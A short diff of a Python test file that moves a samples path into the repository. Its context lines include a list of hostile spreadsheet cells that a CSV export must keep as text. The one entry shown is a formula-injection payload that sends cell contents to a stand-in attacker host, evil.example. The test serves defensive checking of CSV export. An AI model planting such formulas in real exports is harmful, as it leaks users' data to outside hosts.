@@ -41,7 +41,8 @@ from tests.support import (
     sign_in,
 )
 
-SAMPLES = Path("/work/shared/samples")
+# The OCD sample, copied from the shared samples with the others (see its README).
+SAMPLES = Path(__file__).resolve().parent.parent / "integrations" / "samples"
 # Cells a spreadsheet would run: each must reach the CSV as text.
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
